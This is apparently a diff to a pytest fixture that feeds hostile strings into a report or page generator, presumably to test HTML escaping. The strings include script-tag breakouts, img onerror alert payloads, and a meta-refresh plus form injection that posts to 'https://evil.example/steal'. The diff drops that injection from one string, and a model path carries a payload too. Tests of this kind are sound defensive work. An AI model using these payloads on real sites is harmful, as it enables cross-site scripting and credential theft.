@@ -37,7 +37,7 @@ from tests.helpers.modules import LAYERS, modules
 from tests.helpers.study_runs import study_runs_of
 
 TAG = '"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/steal">'
-TEXT = f"</script><script>alert(1)</script><img src=x onerror=alert(1)>&lt;\u2028\u2029{TAG}"
+TEXT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>&lt;"
 POLICY = 'policy:models/$x_$ "><script><img src=x onerror=alert(1)>&lt;\u2028'
 RATES = {"cubic": ([9, 9], [40, 40]), "vegas": ([7, 7], [12, 12]), POLICY: ([8, 6], [11, 20])}
 
@@ -59,9 +59,9 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
     (folder / "set.json").write_text(json.dumps({"name": "nice", "environments": networks}))
     with pytest.MonkeyPatch.context() as patch:
         patch.chdir(folder)
-        weights = Path(POLICY.removeprefix("policy:")) / "weights"
-        weights.parent.mkdir(parents=True)
-        weights.write_text("1")
+        card = Path(POLICY.removeprefix("policy:")) / "card.json"
+        card.parent.mkdir(parents=True)
+        card.write_text("{}")
         found = load_set("set.json")
         write(Path("raw"), {(e, s): rows(e, s, *RATES[s]) for e in found.environments for s in ("cubic", "vegas")})
         save(play(found, tuple(RATES), Path("raw"), Path("out"), lab), Path("out"))
